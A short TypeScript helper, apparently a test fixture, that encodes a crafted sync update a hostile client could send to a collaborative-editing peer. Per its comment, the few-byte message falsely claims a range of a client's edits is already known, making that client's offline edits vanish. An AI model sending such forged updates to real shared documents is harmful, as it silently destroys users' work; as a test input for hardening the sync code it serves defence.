// Bytes that a hostile client could send.
import * as encoding from 'lib0/encoding';

/** "Of this client you have everything already": an update of few bytes that would make its edits made offline vanish. */
export function fillerFor(client: number, from: number, length = 1_000): Uint8Array {
	const encoder = encoding.createEncoder();
	for (const n of [1, 1, client, from]) encoding.writeVarUint(encoder, n);
	encoding.writeUint8(encoder, 0);
	encoding.writeVarUint(encoder, length);
	encoding.writeVarUint(encoder, 0);
	return encoding.toUint8Array(encoder);
}
